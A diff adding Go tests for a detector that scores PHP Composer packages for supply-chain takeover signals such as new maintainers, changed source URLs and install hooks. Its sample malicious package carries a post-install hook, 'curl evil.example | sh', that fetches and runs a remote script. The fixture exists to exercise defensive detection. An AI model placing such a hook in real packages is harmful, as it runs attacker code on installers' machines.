@@ -0,0 +1,127 @@
+package risk
+
+import (
+	"encoding/json"
+	"testing"
+
+	composer_crawler "github.com/scagogogo/composer-crawler"
+	"github.com/stretchr/testify/assert"
+)
+
+func parsePackageInfo(t *testing.T, data string) *composer_crawler.ComposerPackageInfo {
+	info := &composer_crawler.ComposerPackageInfo{}
+	assert.NoError(t, json.Unmarshal([]byte(data), info))
+	return info
+}
+
+const suspiciousPackage = `{"package": {
+	"name": "vendor/package",
+	"maintainers": [{"name": "alice"}, {"name": "mallory"}],
+	"versions": {
+		"dev-main": {"time": "2023-06-01T00:00:00+00:00", "dist": {"reference": "aaaa"}, "source": {"reference": "bbbb"}},
+		"1.0.0": {
+			"time": "2020-01-01T00:00:00+00:00", "license": ["MIT"], "authors": [{"name": "Alice"}],
+			"source": {"url": "https://github.com/vendor/package.git", "reference": "1111"},
+			"dist": {"reference": "1111"}
+		},
+		"1.1.0": {
+			"time": "2020-03-01T00:00:00+00:00", "license": ["MIT"], "authors": [{"name": "Alice"}],
+			"source": {"url": "git@github.com:vendor/package.git", "reference": "2222"},
+			"dist": {"reference": "2222"}
+		},
+		"1.2.0": {
+			"time": "2023-05-01T00:00:00+00:00", "authors": [{"name": "Mallory"}],
+			"type": "composer-plugin", "extra": {"class": "Vendor\\Plugin"},
+			"scripts": {"post-install-cmd": "curl evil.example | sh"},
+			"source": {"url": "https://github.com/mallory/package", "reference": "3333"},
+			"dist": {"reference": "4444"}
+		}
+	}
+}}`
+
+func TestAnalyze(t *testing.T) {
+	previous := parsePackageInfo(t, `{"package": {"name": "vendor/package", "maintainers": [{"name": "alice"}]}}`)
+	report := Analyze(parsePackageInfo(t, suspiciousPackage), &Options{Previous: previous})
+
+	assert.Equal(t, "vendor/package", report.Package)
+	assert.Equal(t, 100, report.Score)
+	assert.Equal(t, LevelHigh, report.Level)
+
+	kinds := make(map[SignalKind][]string)
+	for _, signal := range report.Signals {
+		kinds[signal.Kind] = append(kinds[signal.Kind], signal.Version)
+	}
+	assert.Equal(t, map[SignalKind][]string{
+		SignalDormantReleaseByNewMaintainer: {"1.2.0"},
+		SignalSourceURLChanged:              {"1.2.0"},
+		SignalMaintainerAdded:               {""},
+		SignalReferenceMismatch:             {"1.2.0"},
+		SignalInstallHooks:                  {"1.2.0"},
+		SignalNoLicense:                     {"1.2.0"},
+	}, kinds)
+
+	// Signals are ordered by score
+	assert.Equal(t, SignalDormantReleaseByNewMaintainer, report.Signals[0].Kind)
+	assert.Contains(t, report.Signals[0].Explanation, "mallory")
+	assert.Contains(t, report.Explain(), "composer-plugin, extra.class, scripts.post-install-cmd")
+}
+
+func TestAnalyzeVersion(t *testing.T) {
+	info := parsePackageInfo(t, suspiciousPackage)
+
+	report, err := AnalyzeVersion(info, "1.1.0", nil)
+	assert.NoError(t, err)
+	assert.Equal(t, "1.1.0", report.Version)
+	assert.Equal(t, 0, report.Score)
+	assert.Equal(t, LevelNone, report.Level)
+	assert.Empty(t, report.Signals)
+
+	report, err = AnalyzeVersion(info, "1.2.0", &Options{Weights: map[SignalKind]int{SignalNoLicense: 0}})
+	assert.NoError(t, err)
+	assert.Equal(t, 100, report.Score)
+	for _, signal := range report.Signals {
+		assert.NotEqual(t, SignalNoLicense, signal.Kind)
+	}
+
+	_, err = AnalyzeVersion(info, "9.9.9", nil)
+	assert.Error(t, err)
+}
+
+func TestAnalyze_CleanPackage(t *testing.T) {
+	info := parsePackageInfo(t, `{"package": {"name": "vendor/clean", "versions": {
+		"1.0.0": {"time": "2022-01-01T00:00:00+00:00", "license": ["MIT"], "authors": [{"name": "Alice"}],
+			"source": {"url": "https://github.com/vendor/clean.git", "reference": "1111"}, "dist": {"reference": "1111"}},
+		"1.0.1": {"time": "2022-02-01T00:00:00+00:00", "license": ["MIT"], "authors": [{"name": "Alice"}],
+			"source": {"url": "https://github.com/vendor/clean.git", "reference": "2222"}, "dist": {"reference": "2222"}}
+	}}}`)
+	report := Analyze(info, nil)
+	assert.Equal(t, 0, report.Score)
+	assert.Empty(t, report.Signals)
+}
+
+func TestLevelOf(t *testing.T) {
+	assert.Equal(t, LevelNone, levelOf(0))
+	assert.Equal(t, LevelLow, levelOf(10))
+	assert.Equal(t, LevelMedium, levelOf(35))
+	assert.Equal(t, LevelHigh, levelOf(50))
+}
+
+func TestNormalizeURL(t *testing.T) {
+	tests := []struct {
+		url      string
+		expected string
+	}{
+		{"https://github.com/Vendor/Package.git", "github.com/vendor/package"},
+		{"http://github.com/vendor/package/", "github.com/vendor/package"},
+		{"git@github.com:vendor/package.git", "github.com/vendor/package"},
+		{"ssh://git@github.com/vendor/package.git", "github.com/vendor/package"},
+		{"https://git.example.com:8443/a/b", "git.example.com/a/b"},
+		{"ssh://git@git.example.com:2222/a/b.git", "git.example.com/a/b"},
+	}
+	for _, tt := range tests {
+		assert.Equal(t, tt.expected, normalizeURL(tt.url), tt.url)
+	}
+
+	// The port is not a path segment, so it cannot be mistaken for a different repository
+	assert.NotEqual(t, normalizeURL("https://git.example.com:8443/a/b"), normalizeURL("https://git.example.com/8443/a/b"))
+}